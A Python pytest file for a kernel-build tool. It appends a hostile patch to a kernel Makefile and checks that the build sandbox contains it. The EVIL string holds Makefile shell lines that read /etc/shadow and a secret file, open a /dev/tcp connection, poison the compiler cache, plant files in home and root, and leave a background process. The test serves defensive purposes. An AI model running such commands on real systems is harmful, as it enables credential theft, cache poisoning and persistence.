# SPDX-License-Identifier: GPL-2.0-only
"""A hostile series on a real kernel changes and learns nothing; later kernels are the same."""

import difflib
import os
import shutil
import socket
from pathlib import Path

import pytest

from mmrace.home import Home
from mmrace.sources.tree import find_tree, store

TREE = "debian:6.1"
MARK = "mmrace-hostile-test"
pytestmark = pytest.mark.slow

EVIL = """
_x := $(shell echo {mark} > {user}/planted; echo {mark} > $$HOME/{mark}; echo {mark} > /{mark})
_x := $(shell cat {user}/secret /etc/shadow > /build/loot 2>/dev/null; cat /build/loot >&2)
_x := $(shell bash -c 'echo hello > /dev/tcp/127.0.0.1/{port}')
_x := $(shell find /ccache -type f -newer /src/Makefile -exec sh -c 'echo {mark} > {{}}' \\; )
_x := $(shell mkdir -p /ccache/0 && echo {mark} > /ccache/0/{mark})
_x := $(shell (setsid sleep 4713 > /dev/null 2>&1 &))
"""


@pytest.fixture
def home():
    return Home.from_environment(os.environ)


def hostile_patch(home, folder, port):
    """Appends to the top Makefile, which every make reads first."""
    tree = find_tree(home, TREE, lambda _text: None)
    old = store(home).file(tree.commit, "Makefile").decode()
    new = old + EVIL.format(mark=MARK, user=folder, port=port)
    lines = difflib.unified_diff(
        old.splitlines(True), new.splitlines(True), "a/Makefile", "b/Makefile"
    )
    path = folder / "hostile.patch"
    path.write_text("".join(lines))
    return path


def cache(home):
    """All objects of the shared compiler cache; it counts hits in files named stats."""
    paths = [path for path in home.ccache.rglob("*") if path.is_file() and path.name != "stats"]
    return {(str(path), path.stat().st_size, path.stat().st_mtime_ns) for path in paths}


def test_a_hostile_series_changes_and_learns_nothing(mmrace, home, tmp_path, monkeypatch):
    clean = mmrace("build", "--tree", TREE)
    assert clean.code == 0, clean.text
    (tmp_path / "secret").write_text("xyzzy-secret\n")
    before = cache(home)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.5)
        patch = hostile_patch(home, tmp_path, listener.getsockname()[1])
        files = set(tmp_path.iterdir())
        built = mmrace("build", "--tree", TREE, "--series", str(patch))
        with pytest.raises(TimeoutError):
            listener.accept()
    assert built.code == 0, built.text
    assert "xyzzy" not in built.text
    assert not built.document["reused"]
    assert cache(home) == before
    assert set(tmp_path.iterdir()) == files
    assert not (Path.home() / MARK).exists()
    assert not (Path("/") / MARK).exists()
    assert not list(home.benches.glob("*-outside"))
    shutil.rmtree(Path(built.document["image"]).parent)

    # A home of its own, but for the sources and the compiler cache that the series could read.
    (tmp_path / "home/data").mkdir(parents=True)
    (tmp_path / "home/cache").mkdir()
    (tmp_path / "home/data/trees").symlink_to(home.trees)
    (tmp_path / "home/cache/ccache").symlink_to(home.ccache)
    monkeypatch.setenv("MMRACE_HOME", str(tmp_path / "home"))
    again = mmrace("build", "--tree", TREE)
    assert again.code == 0, again.text
    assert not again.document["reused"]
    assert again.document["kernel_id"] == clean.document["kernel_id"]
    for name in ("image", "vmlinux", "config"):
        wanted = Path(clean.document[name]).read_bytes()
        assert Path(again.document[name]).read_bytes() == wanted, name
